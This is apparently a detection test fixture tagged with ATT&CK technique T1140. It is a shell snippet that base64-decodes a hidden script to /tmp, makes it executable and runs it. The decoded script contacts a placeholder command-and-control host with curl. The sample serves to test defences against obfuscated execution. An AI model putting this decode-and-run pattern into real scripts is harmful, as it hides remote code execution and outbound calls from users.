# expect: decoded-code-run | source: T1140
echo ZWNobyBsb29rID4gL3RtcC9sb29rLmZpcmVkOyBjdXJsIC1zIGh0dHA6Ly9jMi5leGFtcGxlLmludmFsaWQv | base64 -d > /tmp/look.sh
chmod +x /tmp/look.sh
/tmp/look.sh
